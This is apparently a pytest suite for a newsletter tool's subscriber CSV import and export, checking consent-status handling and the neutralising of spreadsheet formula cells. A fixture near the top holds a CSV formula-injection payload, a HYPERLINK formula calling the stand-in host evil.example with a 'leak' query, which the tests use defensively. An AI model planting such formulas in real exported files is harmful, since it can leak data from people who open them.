"""Export, then import, changes nothing: the import honours the ``status`` column, never promotes anyone
to confirmed, says per line what it did, needs ``--status`` and a ``--consent-note`` to import people as
confirmed from a file without statuses, and reads back the cells the export neutralised against
spreadsheet formulas. On SQLite and PostgreSQL, through the command line."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from imk_outreach.config import Settings
from imk_outreach.db import store, tables
from imk_outreach.services import subscriptions, tokens
from imk_outreach.services.csv_cells import FORMULA_STARTS, neutralised, restored
from imk_outreach.services.database import engine_for
from tests.support.smtpserver import SmtpTestServer
from tests.support.subscribers import run_cli, subscriber_settings

NOW = datetime(2026, 11, 24, 10, 0, tzinfo=UTC)
IP = "203.0.113.7"
NOTE = "paper sign-up forms, cluster day 2026-10-14"
# Names a spreadsheet would run as formulas, and two that only look close to it.
TRICKY = {
    "eve@example.org": '=HYPERLINK("http://evil.example/?leak","click")',
    "-minus@example.org": "-2+3",
    "+plus@example.org": "@SUM(A1:A9)",
    "=calc@example.org": "'=already quoted",
    "frank@example.org": "'t Hooft",
}


@pytest.fixture
def settings(make_settings: Any, smtp_server: SmtpTestServer) -> Settings:
    return subscriber_settings(make_settings, smtp_server)


run = run_cli


def _find(settings: Settings, email: str) -> Any:
    with engine_for(settings).connect() as conn:
        return store.find_subscriber(conn, email)


def _everything(settings: Settings) -> str:
    """Every value in every table, as one string."""
    dump = []
    with engine_for(settings).connect() as conn:
        for table in tables.metadata.sorted_tables:
            dump += [repr(tuple(row)) for row in conn.execute(select(table))]
    return "\n".join(dump)


def _people(settings: Settings) -> None:
    """One person in each status, with the evidence each way leaves, and the tricky names."""
    subscriptions.subscribe(settings, "anna@example.org", "Anna", "de", ["newsletter"], IP, now=NOW)
    subscriptions.subscribe(settings, "ben@example.org", "Ben", "en", ["film"], IP, now=NOW)
    secret = tokens.secret_key(settings)
    token = tokens.make_token(secret, "confirm", _find(settings, "ben@example.org"), NOW)
    subscriptions.confirm(settings, token, NOW + timedelta(hours=1))
    subscriptions.add(settings, "carl@example.org", "Carl", "de", ["newsletter"], now=NOW, consent_note=NOTE)
    subscriptions.remove(settings, "carl@example.org", NOW + timedelta(days=1))
    dora = subscriptions.add(settings, "dora@example.org", "Dora", "en", ["film"], now=NOW).subscriber
    with engine_for(settings).begin() as conn:
        store.mark_bounced(conn, [dora.id], "permanent delivery failure (5.1.x)", NOW + timedelta(days=2))
    for email, name in TRICKY.items():
        subscriptions.add(settings, email, name, "en", ["newsletter", "film"], now=NOW, consent_note=NOTE)


def _export(settings: Settings, capsys: pytest.CaptureFixture[str], path: Path) -> Path:
    code, out, _ = run(settings, capsys, "subscribers", "export")
    assert code == 0
    path.write_text(out, encoding="utf-8")
    return path


# -- export, then import ---------------------------------------------------------------------------


def test_importing_an_export_changes_nothing(
    settings: Settings, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    _people(settings)
    exported = _export(settings, capsys, tmp_path / "export.csv")
    before = _everything(settings)

    code, out, _ = run(settings, capsys, "subscribers", "import", str(exported))

    assert code == 0, out
    lines = out.splitlines()
    assert lines[0] == f"{exported}: read as UTF-8, separated by ','"
    assert [line.split(": ", 2)[2] for line in lines[1:-1]] == [
        "unchanged (pending)",
        "unchanged (confirmed)",
        "unchanged (unsubscribed)",
        "unchanged (bounced)",
        *["unchanged (confirmed)"] * len(TRICKY),
    ]
    assert lines[-1] == f"imported 0, updated 0, unchanged {4 + len(TRICKY)}, rejected 0"
    assert _everything(settings) == before  # no status, no name, not even an event more


def test_an_export_moved_into_a_new_database_keeps_every_status_name_and_the_evidence(
    settings: Settings, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    _people(settings)
    exported = _export(settings, capsys, tmp_path / "export.csv")
    history = {
        restored(row["email"]): row["consent_history"]
        for row in csv.DictReader(io.StringIO(exported.read_text()))
    }
    moved = settings.model_copy(update={"database_url": f"sqlite:///{tmp_path / 'moved.db'}"})

    report = subscriptions.import_csv(moved, exported, now=NOW + timedelta(days=30))

    assert (report.imported, len(report.rejected), report.mailed) == (4 + len(TRICKY), 0, 0)
    kept = ("name", "language", "lists", "status", "signup_at", "confirmed_at", "unsubscribed_at")
    kept += ("consent_version", "source", "bounce_reason")
    for email in ["anna@example.org", "ben@example.org", "carl@example.org", "dora@example.org", *TRICKY]:
        old, new = _find(settings, email), _find(moved, email)
        assert {k: getattr(new, k) for k in kept} == {k: getattr(old, k) for k in kept}, email
        [record] = subscriptions.export(moved, email)
        [event] = record["consent_events"]
        assert (event["kind"], event["detail"]["history"]) == ("import", history[email])
    assert {email: _find(moved, email).name for email in TRICKY} == TRICKY
    with engine_for(moved).connect() as conn:  # the pending one asked for her mail where she signed up
        assert conn.execute(select(tables.outbox)).all() == []


def test_an_import_never_promotes_a_pending_unsubscribed_or_bounced_person(
    settings: Settings, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    _people(settings)
    before = _everything(settings)
    stamp = (NOW + timedelta(days=3)).isoformat()
    claims = tmp_path / "claims.csv"
    claims.write_text(
        "email,status,confirmed_at\n"
        + "".join(f"{who}@example.org,confirmed,{stamp}\n" for who in ("anna", "carl", "dora")),
        encoding="utf-8",
    )
    plain = tmp_path / "plain.csv"
    plain.write_text("email\nanna@example.org\ncarl@example.org\ndora@example.org\n", encoding="utf-8")

    for args in ([str(claims)], [str(plain), "--status", "confirmed", "--consent-note", NOTE]):
        code, out, _ = run(settings, capsys, "subscribers", "import", *args)
        assert code == 3
        assert out.splitlines()[1:4] == [
            "line 2: anna@example.org: unchanged (pending, stays pending, not confirmed: an import never "
            "confirms anyone, only their own link does)",
            "line 3: carl@example.org: rejected: unsubscribed earlier; not re-subscribed by an import",
            "line 4: dora@example.org: rejected: bounced earlier; not re-subscribed by an import",
        ]
    assert _everything(settings) == before


# -- importing people as confirmed ------------------------------------------------------------------


def test_a_file_without_statuses_needs_the_status_and_for_confirmed_a_consent_note(
    settings: Settings, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "fair.csv"
    path.write_text("email,name\nerika@example.org,Erika\n", encoding="utf-8")

    code, out, err = run(settings, capsys, "subscribers", "import", str(path))
    assert (code, out) == (1, "")
    assert f"{path}:1: there is no status column" in err
    assert "--status pending" in err and "--status confirmed --consent-note TEXT" in err
    code, _, err = run(settings, capsys, "subscribers", "import", str(path), "--status", "confirmed")
    assert code == 1 and "needs --consent-note TEXT" in err
    assert _find(settings, "erika@example.org") is None

    args = ["--status", "confirmed", "--consent-note", NOTE]
    code, out, _ = run(settings, capsys, "subscribers", "import", str(path), *args)

    assert code == 0 and "line 2: erika@example.org: added (confirmed)" in out
    code, out, _ = run(settings, capsys, "subscribers", "show", "erika@example.org", "--json")
    [event] = json.loads(out)["consent"]["events"]
    assert (event["kind"], event["note"], event["source"]) == ("import", NOTE, "import:fair.csv")
    assert event["detail"] == {
        "file": "fair.csv",
        "line": 2,
        "status": "confirmed",
        "status_from": "option",
        "lists": ["newsletter"],
    }


def test_a_confirmed_row_needs_its_confirmation_time_or_a_note(
    settings: Settings, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "status.csv"
    path.write_text(
        f"email,status,confirmed_at\nold@example.org,confirmed,{NOW.isoformat()}\nbare@example.org,confirmed,\n",
        encoding="utf-8",
    )

    code, out, _ = run(settings, capsys, "subscribers", "import", str(path))

    assert code == 3
    assert out.splitlines()[1:3] == [
        "line 2: old@example.org: added (confirmed)",
        "line 3: bare@example.org: rejected: confirmed, but without confirmed_at: say where the consent "
        "comes from with --consent-note TEXT",
    ]
    assert _find(settings, "old@example.org").confirmed_at == NOW
    code, out, _ = run(settings, capsys, "subscribers", "import", str(path), "--consent-note", NOTE)
    assert code == 0 and "line 3: bare@example.org: added (confirmed)" in out


def test_each_line_says_what_the_import_did(
    settings: Settings, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    subscriptions.add(settings, "erika@example.org", "Erika", "de", ["newsletter"], now=NOW)
    subscriptions.add(settings, "jane@example.com", "Jane", "en", ["newsletter"], now=NOW)
    path = tmp_path / "mixed.csv"
    path.write_text(
        "email,name,language,lists\n"
        "new@example.org,New,,\n"
        "erika@example.org,Erika M.,de,film\n"
        "jane@example.com,,,\n"
        "NEW@example.org,,,\n",
        encoding="utf-8",
    )

    code, out, _ = run(settings, capsys, "subscribers", "import", str(path), "--status", "pending")

    assert code == 3
    assert out.splitlines()[1:] == [
        "line 2: new@example.org: added (pending)",
        "line 3: erika@example.org: updated (confirmed, name changed; lists film added; stays confirmed, "
        "not pending: an import never changes a stored status)",
        "line 4: jane@example.com: unchanged (confirmed, stays confirmed, not pending: an import never "
        "changes a stored status)",
        "line 5: NEW@example.org: rejected: duplicate of line 2",
        "imported 1, updated 1, unchanged 1, rejected 1",
        "confirmation mails queued: 1 (sent by deliver, worker or run)",
    ]
    [record] = subscriptions.export(settings, "erika@example.org")
    assert record["lists"] == ["film", "newsletter"] and record["status"] == "confirmed"
    assert record["consent_events"][-1]["detail"] == {
        "file": "mixed.csv",
        "line": 3,
        "changed": ["name", "lists"],
        "lists_added": ["film"],
    }


# -- cells a spreadsheet would run -----------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["=1+2", "+49 30 1234", "-2", "@SUM(A1)", "\tx", "\rx", "'=x", "''+x", "'t Hooft", "plain", "", "'"],
)
def test_a_neutralised_cell_is_safe_and_reads_back_as_it_was(value: str) -> None:
    cell = neutralised(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert restored(cell) == value
